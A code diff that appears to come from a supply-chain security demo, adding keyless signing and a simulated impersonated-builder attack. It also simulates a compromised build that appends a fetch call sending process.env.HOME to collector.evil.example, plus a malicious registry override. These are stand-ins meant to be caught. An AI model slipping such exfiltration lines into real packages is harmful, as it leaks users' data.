@@ -5,12 +5,13 @@
 import { execFileSync } from 'node:child_process';
 import { copyFileSync, cpSync, createWriteStream, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
-import { IN_TOTO_PAYLOAD_TYPE, digestBytes, generateKeyPair, loadPrivateKeyPem, signEnvelope } from '../core/index.ts';
-import { startServer } from '../server/index.ts';
+import { IN_TOTO_PAYLOAD_TYPE, digestBytes, generateKeyPair, isCustodyError, loadPrivateKeyPem, signEnvelope } from '../core/index.ts';
+import { keylessSignDsse, mintIdentityToken, startServer, verifyKeylessDsse } from '../server/index.ts';
 import { TufClient } from '../tuf/index.ts';
 import { buildGateServer } from './gate.ts';
 import {
   CONSUMER_VERIFIER_ID,
+  BUILD_CHECK_ID,
   CYCLONEDX,
   KEYLESS_ISSUER,
   REBUILDER_ID,
@@ -76,15 +77,43 @@ const DEMO_CA_ROOT_PASSPHRASE = 'custody-demo-only-ca-root-passphrase';
 
 /**
  * How a step signs: `--key keys/ROLE.key`, or with --keyless `--keyless` and the environment that
- * mints the step's ID token from the demo server's workload issuer (CUSTODY_SERVER, CUSTODY_TOKEN).
+ * mints the step's ID token from the demo server's workload issuer (CUSTODY_SERVER, CUSTODY_TOKEN);
+ * `step` names the step for commands without their own step name (`run --step` names it itself).
+ * `keyFlags` spells the command's own flags (`verify`: --vsa-key / --vsa-keyless).
  */
-async function signing(ctx: DemoContext, role: string): Promise<{ args: string[]; env: Record<string, string> }> {
-  if (ctx.state.keyless !== true) return { args: ['--key', keyFile(ctx, role)], env: {} };
+async function signing(ctx: DemoContext, role: string, step?: string, keyFlags: [string, string] = ['--key', '--keyless']): Promise<{ args: string[]; env: Record<string, string> }> {
+  if (ctx.state.keyless !== true) return { args: [keyFlags[0], keyFile(ctx, role)], env: {} };
   const url = await ensureServer(ctx);
   if (!existsSync(caRoot(ctx))) writeFileSync(caRoot(ctx), await (await fetch(`${url}/v1/ca/trusted-root`)).text());
-  return { args: ['--keyless'], env: { CUSTODY_SERVER: url, CUSTODY_TOKEN: ctx.state.tokens?.attester ?? '', CUSTODY_RUN_ID: (ctx.state.commit ?? 'demo').slice(0, 12) } };
+  return { args: [keyFlags[1], ...(step === undefined ? [] : ['--step', step])], env: keylessEnv(ctx, url) };
+}
+
+function keylessEnv(ctx: DemoContext, url: string): Record<string, string> {
+  return { CUSTODY_SERVER: url, CUSTODY_TOKEN: ctx.state.tokens?.attester ?? '', CUSTODY_RUN_ID: (ctx.state.commit ?? 'demo').slice(0, 12) };
+}
+
+/** An attestation file name: a DSSE envelope (.json) with keys, a Sigstore bundle (.sigstore) keyless. */
+const attName = (ctx: DemoContext, base: string): string => `${base}.${ctx.state.keyless === true ? 'sigstore' : 'json'}`;
+
+/**
+ * Re-signs a statement as `role` would (an attacker holding that role's key or workload identity):
+ * a DSSE envelope with its key, or a keyless bundle with an ID token minted for `step`.
+ */
+async function resign(ctx: DemoContext, statement: object, role: string, step: string, file: string): Promise<void> {
+  const bytes = Buffer.from(JSON.stringify(statement));
+  if (ctx.state.keyless !== true) {
+    const key = loadPrivateKeyPem(readFileSync(keyFile(ctx, role), 'utf8'));
+    writeFileSync(file, `${JSON.stringify(await signEnvelope(IN_TOTO_PAYLOAD_TYPE, bytes, [key.signer()]))}\n`);
+    return;
+  }
+  const url = await ensureServer(ctx);
+  const env = keylessEnv(ctx, url);
+  const token = await mintIdentityToken(url, env['CUSTODY_TOKEN'], { step, ttlSeconds: 600, run: env['CUSTODY_RUN_ID'] ?? 'demo' });
+  const signed = await keylessSignDsse(url, token.token, IN_TOTO_PAYLOAD_TYPE, bytes);
+  writeFileSync(file, `${JSON.stringify(signed.bundle)}\n`);
 }
 const trustedRoot = (ctx: DemoContext): string[] => (ctx.state.keyless === true ? ['--trusted-root', caRoot(ctx)] : []);
+const keylessly = (ctx: DemoContext): string => (ctx.state.keyless === true ? ', keyless' : '');
 
 /** Collects `{code, message}` findings anywhere in a JSON report. */
 function findings(value: unknown, out: { code: string; message: string; path?: string }[] = []): { code: string; message: string; path?: string }[] {
@@ -151,7 +180,7 @@ export async function setUp(ctx: DemoContext, backend: 'auto' | 'softhsm' | 'fil
   const keyless = ctx.state.keyless === true;
   await writeSignedPolicy(path(ctx, 'policies', 'build.policy.json'), buildPolicy(keys, POLICY_EXPIRES, keyless), keyFile(ctx, 'owner'));
   await writeSignedPolicy(path(ctx, 'policies', 'release.policy.json'), releasePolicy(keys, POLICY_EXPIRES, keyless), keyFile(ctx, 'owner'));
-  await writeSignedPolicy(path(ctx, 'policies', 'deploy.policy.json'), deployPolicy(keys, POLICY_EXPIRES), keyFile(ctx, 'owner'));
+  await writeSignedPolicy(path(ctx, 'policies', 'deploy.policy.json'), deployPolicy(keys, POLICY_EXPIRES, keyless), keyFile(ctx, 'owner'));
   await custody(ctx, ['vuln', 'db', 'import', join(EXAMPLE, 'advisories'), '--db', path(ctx, 'osv.sqlite'), '--json'], 'osv.sqlite');
   copyFileSync(path(ctx, 'osv.sqlite'), path(ctx, 'consumer', 'osv.sqlite'));
   await custody(ctx, ['repo', 'init', '--dir', path(ctx, 'repo'), '--root-key', keyFile(ctx, 'tuf-root'), '--targets-key', keyFile(ctx, 'tuf-targets'), '--online-key', keyFile(ctx, 'tuf-online'), '--json'], 'repo');
@@ -176,7 +205,7 @@ export async function setUp(ctx: DemoContext, backend: 'auto' | 'softhsm' | 'fil
     { what: 'policies signed by the owner key', where: 'policies/', detail: 'source.yaml, build.policy.json, release.policy.json, deploy.policy.json' },
     { what: `signing service: release key in ${chosen === 'softhsm' ? 'SoftHSM2 (PKCS#11, non-extractable)' : 'an encrypted key file'}`, where: 'server/server.yaml' },
     { what: 'TUF repository (root, targets, snapshot, timestamp)', where: 'repo/metadata/' },
-    ...(keyless ? [{ what: `keyless: certificate authority, time-stamp authority and workload ID-token issuer ${KEYLESS_ISSUER} in the server; the CI steps' policies name identities`, where: 'server/data/ca/' }] : []),
+    ...(keyless ? [{ what: `keyless: certificate authority, time-stamp authority and workload ID-token issuer ${KEYLESS_ISSUER} in the server; every attesting step is an identity in the policies`, where: 'server/data/ca/' }] : []),
   ];
 }
 
@@ -314,7 +343,9 @@ const source: Step = {
   title: 'the source platform verifies signatures, authorization, review and ref history; attests',
   async run(ctx, evidence) {
     const remote = path(ctx, 'remote.git');
-    const r = await exec(ctx, [process.execPath, CUSTODY_JS, 'source', 'verify', '--repo', remote, '--policy', path(ctx, 'policies', 'source.yaml'), '--ref', 'main', '--attest', atts(ctx, 'source.vsa.json'), '--key', keyFile(ctx, 'source-verifier'), '--repo-uri', 'git+https://git.example/greeter', '--json']);
+    const vsaFile = attName(ctx, 'source.vsa');
+    const by = await signing(ctx, 'source-verifier', 'source-verify');
+    const r = await exec(ctx, [process.execPath, CUSTODY_JS, 'source', 'verify', '--repo', remote, '--policy', path(ctx, 'policies', 'source.yaml'), '--ref', 'main', '--attest', atts(ctx, vsaFile), ...by.args, '--repo-uri', 'git+https://git.example/greeter', '--json'], { env: by.env });
     ctx.state.commit = (await must(ctx, ['git', '-C', remote, 'rev-parse', 'main'])).trim();
     ctx.state.sourceDateEpoch = Number((await must(ctx, ['git', '-C', remote, 'log', '-1', '--format=%ct', 'main'])).trim());
     if (r.status !== 0) {
@@ -331,8 +362,8 @@ const source: Step = {
       }
       throw new StageFailure('source', first.code, `commit ${ctx.state.commit.slice(0, 12)} on refs/heads/main`, first.message, found.map((f) => `${f.code}: ${f.message}`));
     }
-    const vsa = statementOf(atts(ctx, 'source.vsa.json')).predicate as { verifiedLevels?: string[] };
-    evidence.push({ what: 'source VSA (SLSA VSA v1) for the commit', where: 'attestations/source.vsa.json', detail: (vsa.verifiedLevels ?? []).join(', ') });
+    const vsa = statementOf(atts(ctx, vsaFile)).predicate as { verifiedLevels?: string[] };
+    evidence.push({ what: `source VSA (SLSA VSA v1) for the commit${keylessly(ctx)}`, where: `attestations/${vsaFile}`, detail: (vsa.verifiedLevels ?? []).join(', ') });
   },
 };
 
@@ -379,7 +410,7 @@ const preBuild: Step = {
   },
 };
 
-/** The compromised build machine: other bytes in the package, and the builder key signs them. */
+/** The compromised build machine: other bytes in the package, and the builder's key or identity signs them. */
 async function compromiseBuild(ctx: DemoContext, provenance: string): Promise<void> {
   const dir = ci(ctx);
   writeFileSync(join(dir, 'dist', 'index.js'), `${readFileSync(join(dir, 'dist', 'index.js'), 'utf8')}fetch('https://collector.evil.example/' + process.env.HOME).catch(() => {});\n`);
@@ -392,9 +423,8 @@ async function compromiseBuild(ctx: DemoContext, provenance: string): Promise<vo
     const file = join(dir, s.name);
     if (existsSync(file)) s.digest = { sha256: digestBytes(readFileSync(file)) };
   }
-  const builder = loadPrivateKeyPem(readFileSync(keyFile(ctx, 'builder'), 'utf8'));
-  const envelope = await signEnvelope(IN_TOTO_PAYLOAD_TYPE, Buffer.from(JSON.stringify(statement)), [builder.signer()]);
-  writeFileSync(provenance, `${JSON.stringify(envelope)}\n`);
+  // The build machine holds the builder key, or (keyless) the build step's workload identity.
+  await resign(ctx, statement, 'builder', 'build', provenance);
 }
 
 const build: Step = {
@@ -407,22 +437,27 @@ const build: Step = {
       writeFileSync(join(dir, 'src', 'index.ts'), `${readFileSync(join(dir, 'src', 'index.ts'), 'utf8')}\nexport const telemetry = 'https://collector.evil.example/';\n`);
     }
     const extra = ctx.attack === 'build-params-modified' ? ['--pass-env', 'npm_config_registry=https://registry.evil.example/'] : [];
+    const builder = await signing(ctx, 'builder');
     const r = await custody(
       ctx,
-      ['run', '--step', 'build', '--dsse', '--provenance', '--key', keyFile(ctx, 'builder'), '--tool', TYPESCRIPT, '--tool', '/usr/bin/node', '--pass-env', `TSC=${TSC}`, ...extra, ...SOURCE_FILES.flatMap((f) => ['-m', f]), '-p', 'dist', '-p', 'out', '-d', atts(ctx), '--json', '--', 'sh', 'build.sh'],
+      ['run', '--step', 'build', '--dsse', '--provenance', ...builder.args, '--tool', TYPESCRIPT, '--tool', '/usr/bin/node', '--pass-env', `TSC=${TSC}`, ...extra, ...SOURCE_FILES.flatMap((f) => ['-m', f]), '-p', 'dist', '-p', 'out', '-d', atts(ctx), '--json', '--', 'sh', 'build.sh'],
       ARTIFACT,
-      { cwd: dir },
+      { cwd: dir, env: builder.env },
     );
     renameLinks(atts(ctx));
     const provenance = json<{ provenance: string }>(r).provenance;
     ctx.state.provenance = rel(ctx, resolve(dir, provenance));
     if (ctx.attack === 'compromised-build') await compromiseBuild(ctx, path(ctx, ctx.state.provenance));
+    if (ctx.attack === 'impersonated-builder') {
+      // A compromised lint job signs the build's provenance with its own key or workload identity.
+      await resign(ctx, statementOf(path(ctx, ctx.state.provenance)), 'ci-lint', 'lint', path(ctx, ctx.state.provenance));
+    }
     ctx.state.digest = digestBytes(readFileSync(join(dir, ARTIFACT)));
-    evidence.push({ what: 'SLSA provenance v1 (hermetic: bubblewrap, no network)', where: ctx.state.provenance, detail: `${ARTIFACT} sha256:${ctx.state.digest}` });
+    evidence.push({ what: `SLSA provenance v1 (hermetic: bubblewrap, no network${keylessly(ctx)})`, where: ctx.state.provenance, detail: `${ARTIFACT} sha256:${ctx.state.digest}` });
     const epoch = { SOURCE_DATE_EPOCH: String(ctx.state.sourceDateEpoch ?? 0) };
     await custody(ctx, ['sbom', '.', '--out', 'reports/sbom.cdx.json', '--json'], ARTIFACT, { cwd: dir, env: epoch });
-    // With --keyless the SBOM is its own step identity (`sbom`); a Sigstore bundle, which the pipeline does not push.
-    const by = ctx.state.keyless === true ? { args: ['--keyless', '--step', 'sbom'], env: (await signing(ctx, 'ci-sbom')).env } : await signing(ctx, 'builder');
+    // With --keyless the SBOM is its own step identity (`sbom`).
+    const by = ctx.state.keyless === true ? await signing(ctx, 'ci-sbom', 'sbom') : await signing(ctx, 'builder');
     const sbomAtt = ctx.state.keyless === true ? 'sbom.cdx.att.sigstore' : 'sbom.cdx.att.json';
     await custody(ctx, ['attest', '--subject', ARTIFACT, '--type', CYCLONEDX, '--predicate', 'reports/sbom.cdx.json', ...by.args, '--out', atts(ctx, sbomAtt), '--json'], ARTIFACT, { cwd: dir, env: by.env });
     evidence.push({ what: `CycloneDX 1.6 SBOM, attested${ctx.state.keyless === true ? ' keylessly' : ''}`, where: `attestations/${sbomAtt}` });
@@ -436,20 +471,27 @@ const postBuild: Step = {
   async run(ctx, evidence) {
     const artifact = ci(ctx, ARTIFACT);
     const js = CUSTODY_JS;
-    const r = await exec(ctx, [process.execPath, js, 'verify', '--policy', path(ctx, 'policies', 'build.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--subject', artifact, '--attestations', atts(ctx), ...trustedRoot(ctx), '--vsa-key', keyFile(ctx, 'ci-verifier'), '--vsa-out', path(ctx, 'release', 'build-check.vsa.json'), '--verifier-id', 'https://ci.example/build-check', '--json']);
+    const checker = await signing(ctx, 'ci-verifier', 'build-check', ['--vsa-key', '--vsa-keyless']);
+    const checkVsa = attName(ctx, 'build-check.vsa');
+    const r = await exec(
+      ctx,
+      [process.execPath, js, 'verify', '--policy', path(ctx, 'policies', 'build.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--subject', artifact, '--attestations', atts(ctx), ...trustedRoot(ctx), ...checker.args, '--vsa-out', path(ctx, 'release', checkVsa), '--verifier-id', BUILD_CHECK_ID, '--json'],
+      { env: checker.env },
+    );
     if (r.status !== 0) {
       const issues = policyIssues(r.stdout);
       const first = issues[0];
       throw new StageFailure('post-build', first?.code ?? `EXIT_${r.status}`, first?.artifact ?? ARTIFACT, first?.line ?? r.stderr.trim(), issues.map((i) => i.line));
     }
-    evidence.push({ what: 'build policy passed: source VSA, checkout, lint, secret scan, dependency review, hermetic build, SBOM (VSA)', where: 'release/build-check.vsa.json' });
-    if (ctx.state.keyless === true) {
-      // The release policy takes the CI step identities on this check's word (demo-policies.ts).
-      copyFileSync(path(ctx, 'release', 'build-check.vsa.json'), atts(ctx, 'build-check.vsa.json'));
-      evidence.push({ what: 'keyless: the CI step identities verified against the CA trusted root; the check\'s VSA goes along as evidence', where: 'attestations/build-check.vsa.json' });
-    }
-    await custody(ctx, ['scan', 'vulns', '--sbom', ci(ctx, 'reports', 'sbom.cdx.json'), '--db', path(ctx, 'osv.sqlite'), '--fail-on', 'high', '--attest', '--key', keyFile(ctx, 'scanner'), '--subject', artifact, '--out', atts(ctx, 'vulns.att.json'), '--json'], ARTIFACT);
-    evidence.push({ what: 'vulnerability scan (in-toto vulns v0.1, OSV database)', where: 'attestations/vulns.att.json', detail: 'no finding at or above high' });
+    evidence.push({
+      what: `build policy passed: source VSA, checkout, lint, secret scan, dependency review, hermetic build, SBOM (VSA${keylessly(ctx)})`,
+      where: `release/${checkVsa}`,
+      ...(ctx.state.keyless === true ? { detail: 'every step identity verified against the CA trusted root' } : {}),
+    });
+    const scanner = await signing(ctx, 'scanner', 'vuln-scan');
+    const vulnsFile = attName(ctx, 'vulns.att');
+    await custody(ctx, ['scan', 'vulns', '--sbom', ci(ctx, 'reports', 'sbom.cdx.json'), '--db', path(ctx, 'osv.sqlite'), '--fail-on', 'high', '--attest', ...scanner.args, '--subject', artifact, '--out', atts(ctx, vulnsFile), '--json'], ARTIFACT, { env: scanner.env });
+    evidence.push({ what: `vulnerability scan (in-toto vulns v0.1, OSV database${keylessly(ctx)})`, where: `attestations/${vulnsFile}`, detail: 'no finding at or above high' });
   },
 };
 
@@ -459,24 +501,62 @@ const rebuild: Step = {
   title: 'an independent rebuilder reproduces the package from source alone (VSA)',
   async run(ctx, evidence) {
     const out = path(ctx, 'rebuild');
+    const vsaFile = attName(ctx, 'rebuild.vsa');
     rmSync(out, { recursive: true, force: true });
-    rmSync(atts(ctx, 'rebuild.vsa.json'), { force: true });
+    rmSync(atts(ctx, vsaFile), { force: true });
     const js = CUSTODY_JS;
-    const r = await exec(ctx, [
-      process.execPath, js, 'rebuild', '--provenance', path(ctx, ctx.state.provenance ?? ''), '--git', path(ctx, 'remote.git'), '--key', keyFile(ctx, 'rebuilder'),
-      '--out', out, '--verifier-id', REBUILDER_ID, '--provenance-key', pubFile(ctx, 'builder'), '--allow-tool', TYPESCRIPT, '--allow-tool', '/usr/bin',
-      '--uid', '4242', '--workdir', '/var/tmp/rebuild', '--originals', ci(ctx), '--json',
-    ]);
-    if (existsSync(join(out, 'rebuild.vsa.json'))) copyFileSync(join(out, 'rebuild.vsa.json'), atts(ctx, 'rebuild.vsa.json'));
+    const rebuilder = await signing(ctx, 'rebuilder', 'rebuild');
+    const r = await exec(
+      ctx,
+      [
+        process.execPath, js, 'rebuild', '--provenance', rebuildInput(ctx, out), '--git', path(ctx, 'remote.git'), ...rebuilder.args,
+        '--out', out, '--verifier-id', REBUILDER_ID, ...builtBy(ctx), '--allow-tool', TYPESCRIPT, '--allow-tool', '/usr/bin',
+        '--uid', '4242', '--workdir', '/var/tmp/rebuild', '--originals', ci(ctx), '--json',
+      ],
+      { env: rebuilder.env },
+    );
+    if (existsSync(join(out, vsaFile))) copyFileSync(join(out, vsaFile), atts(ctx, vsaFile));
     if (r.status !== 0) {
       const report = findFile(out, (f) => f.endsWith('.tgz.diffoscope.txt')) ?? findFile(out, (f) => f.endsWith('.diffoscope.txt'));
       const e = /^custody: (.*) \[([A-Z_]+)\]$/m.exec(r.stderr);
       const differs = report === undefined ? '' : ` (diffoscope: ${rel(ctx, report)}: ${firstDiff(readFileSync(report, 'utf8'))})`;
       throw new StageFailure('rebuild', e?.[2] ?? `EXIT_${r.status}`, ARTIFACT, `${e?.[1] ?? r.stderr.trim()}${differs}`);
     }
-    evidence.push({ what: 'rebuild VSA (SLSA VSA v1, PASSED: every subject reproduced bit for bit)', where: 'attestations/rebuild.vsa.json', detail: 'other uid, sandbox path, time and checkout' });
+    evidence.push({ what: `rebuild VSA (SLSA VSA v1, PASSED: every subject reproduced bit for bit${keylessly(ctx)})`, where: `attestations/${vsaFile}`, detail: 'other uid, sandbox path, time and checkout' });
   },
 };
+
+/** Whose provenance the rebuilder accepts: the builder's key, or (keyless) the build step's identity. */
+function builtBy(ctx: DemoContext): string[] {
+  if (ctx.state.keyless !== true) return ['--provenance-key', pubFile(ctx, 'builder')];
+  return [];
+}
+
+/**
+ * The provenance the rebuilder reads. Keyless, `rebuild` takes a DSSE envelope, not a bundle: the
+ * bundle is verified here (certificate chain to the CA's trusted root, signature, time-stamp, log
+ * entry) and must name the build step's identity, as `--provenance-key keys/builder.pub` requires
+ * the builder's key; then its envelope is what the rebuilder gets.
+ */
+function rebuildInput(ctx: DemoContext, out: string): string {
+  const provenance = path(ctx, ctx.state.provenance ?? '');
+  if (ctx.state.keyless !== true) return provenance;
+  mkdirSync(out, { recursive: true });
+  const input = join(out, 'input.provenance.json');
+  const bundle = JSON.parse(readFileSync(provenance, 'utf8')) as unknown;
+  let v: ReturnType<typeof verifyKeylessDsse>;
+  try {
+    v = verifyKeylessDsse({ bundle, trustedRoot: JSON.parse(readFileSync(caRoot(ctx), 'utf8')) as unknown });
+  } catch (e) {
+    if (!isCustodyError(e)) throw e;
+    throw new StageFailure('rebuild', e.code, ctx.state.provenance ?? '', e.message);
+  }
+  if (v.issuer !== KEYLESS_ISSUER || !/\/steps\/build$/.test(v.identity)) {
+    throw new StageFailure('rebuild', 'IDENTITY_MISMATCH', ctx.state.provenance ?? '', `the provenance is signed for ${v.identity} (issuer ${v.issuer}), not the build step`);
+  }
+  writeFileSync(input, `${JSON.stringify(v.envelope)}\n`);
+  return input;
+}
 
 /** The first changed line of a diffoscope text report, with the file inside the package it is in. */
 export function firstDiff(report: string): string {
@@ -497,7 +577,8 @@ const sign: Step = {
   async run(ctx, evidence) {
     const url = await ensureServer(ctx);
     const tokens = ctx.state.tokens!;
-    const files = readdirSync(atts(ctx)).filter((f) => f.endsWith('.json')).sort().map((f) => atts(ctx, f));
+    // DSSE envelopes (.json) and, keyless, Sigstore bundles (.sigstore): the service verifies identities with its CA's trusted root.
+    const files = readdirSync(atts(ctx)).filter((f) => f.endsWith('.json') || f.endsWith('.sigstore')).sort().map((f) => atts(ctx, f));
     const pushed = json<unknown>(await custody(ctx, ['push', ...files, '--server', url, '--json'], 'attestations', { env: { CUSTODY_TOKEN: tokens.attester } }));
     const ids = attestationIds(pushed);
     ctx.state.attestationIds = ids;
@@ -520,7 +601,11 @@ const sign: Step = {
     const release = keys.keys.find((k) => k.name === 'release');
     if (release !== undefined) writeFileSync(path(ctx, 'release', 'release.pub'), release.publicKeyPem);
     await custody(ctx, ['verify-blob', ci(ctx, ARTIFACT), '--bundle', bundle, '--key', path(ctx, 'release', 'release.pub'), '--trust-root', path(ctx, 'release', 'trusted_root.json'), '--revocations', url, '--json'], ARTIFACT);
-    evidence.push({ what: `Sigstore bundle v0.3 (release key in ${ctx.state.backend === 'softhsm' ? 'SoftHSM2' : 'a key file'}), transparency log entry #${s.logIndex}`, where: 'release/greeter-1.0.0.tgz.sigstore.json' });
+    evidence.push({
+      what: `Sigstore bundle v0.3 (release key in ${ctx.state.backend === 'softhsm' ? 'SoftHSM2' : 'a key file'}), transparency log entry #${s.logIndex}`,
+      where: 'release/greeter-1.0.0.tgz.sigstore.json',
+      ...(ctx.state.keyless === true ? { detail: "release policy passed, step identities verified against the service's own CA trusted root" } : {}),
+    });
   },
 };
 
@@ -552,11 +637,11 @@ const publish: Step = {
     cpSync(path(ctx, 'repo', 'metadata'), path(ctx, 'repo-previous', 'metadata'), { recursive: true });
     const r = await custody(
       ctx,
-      ['repo', 'add', ci(ctx, ARTIFACT), '--as', TARGET, '--attestations', atts(ctx), '--bundle', path(ctx, 'release', 'greeter-1.0.0.tgz.sigstore.json'), '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--dir', path(ctx, 'repo'), '--sign-key', keyFile(ctx, 'tuf-targets'), '--publish', '--json'],
+      ['repo', 'add', ci(ctx, ARTIFACT), '--as', TARGET, '--attestations', atts(ctx), '--bundle', path(ctx, 'release', 'greeter-1.0.0.tgz.sigstore.json'), '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), ...trustedRoot(ctx), '--dir', path(ctx, 'repo'), '--sign-key', keyFile(ctx, 'tuf-targets'), '--publish', '--json'],
       ARTIFACT,
     );
     void r;
-    evidence.push({ what: `TUF target ${TARGET} with its attestations and signature, published`, where: 'repo/metadata/timestamp.json' });
+    evidence.push({ what: `TUF target ${TARGET} with its attestations and signature, published`, where: 'repo/metadata/timestamp.json', ...(ctx.state.keyless === true ? { detail: 'admission: release policy, identities verified with --trusted-root' } : {}) });
   },
 };
 
@@ -566,7 +651,7 @@ const fetchStep: Step = {
   title: 'the consumer fetches through TUF and verifies the package against its attestations and signature',
   async run(ctx, evidence) {
     const consumer = path(ctx, 'consumer');
-    const fetchArgs = ['fetch', TARGET, '--repo', path(ctx, 'repo'), '--root', path(ctx, 'repo', 'metadata', '1.root.json'), '--metadata-dir', join(consumer, 'tuf'), '--out', join(consumer, 'greeter-1.0.0.tgz'), '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--json'];
+    const fetchArgs = ['fetch', TARGET, '--repo', path(ctx, 'repo'), '--root', path(ctx, 'repo', 'metadata', '1.root.json'), '--metadata-dir', join(consumer, 'tuf'), '--out', join(consumer, 'greeter-1.0.0.tgz'), '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), ...trustedRoot(ctx), '--json'];
     if (ctx.attack === 'repo-rollback' || ctx.attack === 'repo-substitution') {
       if (!existsSync(join(consumer, 'tuf', 'timestamp.json'))) await custody(ctx, fetchArgs, TARGET); // an earlier, honest update
       rmSync(join(consumer, 'greeter-1.0.0.tgz'), { force: true });
@@ -584,7 +669,7 @@ const fetchStep: Step = {
       }
     }
     await custody(ctx, fetchArgs, TARGET);
-    evidence.push({ what: 'TUF verified (root → timestamp → snapshot → targets → hashes), release policy passed', where: 'consumer/greeter-1.0.0.tgz' });
+    evidence.push({ what: `TUF verified (root → timestamp → snapshot → targets → hashes), release policy passed${ctx.state.keyless === true ? ' (identities verified with --trusted-root)' : ''}`, where: 'consumer/greeter-1.0.0.tgz' });
     const evidenceDir = join(consumer, 'evidence');
     rmSync(evidenceDir, { recursive: true, force: true });
     mkdirSync(evidenceDir, { recursive: true });
@@ -618,10 +703,19 @@ const consumerScan: Step = {
     const sbomAtt = readdirSync(join(consumer, 'evidence')).map((f) => join(consumer, 'evidence', f)).find((f) => (f.endsWith('.json') || f.endsWith('.att.sigstore')) && !f.endsWith('.sigstore.json') && safeType(f) === CYCLONEDX);
     if (sbomAtt === undefined) throw new StageFailure('consumer-scan', 'ATTESTATION_MISSING', TARGET, 'no SBOM among the published attestations');
     writeFileSync(join(consumer, 'sbom.cdx.json'), `${JSON.stringify(statementOf(sbomAtt).predicate, null, 2)}\n`);
-    await custody(ctx, ['scan', 'vulns', '--sbom', join(consumer, 'sbom.cdx.json'), '--db', join(consumer, 'osv.sqlite'), '--fail-on', 'high', '--attest', '--key', keyFile(ctx, 'consumer'), '--subject', pkg, '--out', join(deploy, 'consumer-scan.att.json'), '--json'], TARGET);
-    evidence.push({ what: "consumer's vulnerability scan, attested", where: rel(ctx, join(deploy, 'consumer-scan.att.json')) });
-    await custody(ctx, ['verify', '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--subject', pkg, '--attestations', join(consumer, 'evidence'), ...trustedRoot(ctx), '--vsa-key', keyFile(ctx, 'consumer'), '--vsa-out', join(deploy, 'release.vsa.json'), '--verifier-id', CONSUMER_VERIFIER_ID, '--json'], TARGET);
-    evidence.push({ what: "consumer's verification summary (release policy PASSED)", where: rel(ctx, join(deploy, 'release.vsa.json')) });
+    const scan = join(deploy, attName(ctx, 'consumer-scan.att'));
+    const scanner = await signing(ctx, 'consumer', 'consumer-scan');
+    await custody(ctx, ['scan', 'vulns', '--sbom', join(consumer, 'sbom.cdx.json'), '--db', join(consumer, 'osv.sqlite'), '--fail-on', 'high', '--attest', ...scanner.args, '--subject', pkg, '--out', scan, '--json'], TARGET, { env: scanner.env });
+    evidence.push({ what: `consumer's vulnerability scan, attested${keylessly(ctx)}`, where: rel(ctx, scan) });
+    const vsa = join(deploy, attName(ctx, 'release.vsa'));
+    const verifier = await signing(ctx, 'consumer', 'consumer-verify', ['--vsa-key', '--vsa-keyless']);
+    await custody(
+      ctx,
+      ['verify', '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--subject', pkg, '--attestations', join(consumer, 'evidence'), ...trustedRoot(ctx), ...verifier.args, '--vsa-out', vsa, '--verifier-id', CONSUMER_VERIFIER_ID, '--json'],
+      TARGET,
+      { env: verifier.env },
+    );
+    evidence.push({ what: `consumer's verification summary (release policy PASSED${keylessly(ctx)})`, where: rel(ctx, vsa) });
   },
 };
 
